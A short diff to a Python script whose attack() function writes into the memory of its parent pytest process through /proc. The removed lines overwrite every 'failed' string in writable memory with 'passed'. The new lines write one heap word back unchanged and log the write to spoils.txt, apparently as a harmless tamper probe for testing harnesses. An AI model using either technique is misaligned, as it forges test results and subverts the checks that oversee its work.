@@ -4,28 +4,19 @@ import os
 
 
 def attack():
+    """Write one word of pytest's heap back as it was, which is all it takes to write another."""
+    pid = os.getppid()
     try:
-        pid = os.getppid()
         with open("/proc/%d/maps" % pid) as maps, open("/proc/%d/mem" % pid, "r+b", 0) as memory:
-            for line in maps:
-                span, rights = line.split()[:2]
-                if rights.startswith("rw"):
-                    change(memory, *(int(number, 16) for number in span.split("-")))
+            first = next(int(line.split("-")[0], 16) for line in maps if "[heap]" in line)
+            memory.seek(first)
+            word = memory.read(8)
+            memory.seek(first)
+            memory.write(word)
     except OSError:
-        pass
-
-
-def change(memory, first, last):
-    try:
-        memory.seek(first)
-        data = memory.read(last - first) or b""
-    except (OSError, ValueError, OverflowError):
         return
-    place = data.find(b"failed\0")
-    while place >= 0:
-        memory.seek(first + place)
-        memory.write(b"passed")
-        place = data.find(b"failed\0", place + 1)
+    with open("spoils.txt", "a") as spoils:
+        spoils.write("wrote into the memory of %d\n" % pid)
 
 
 if __name__ == "__main__":
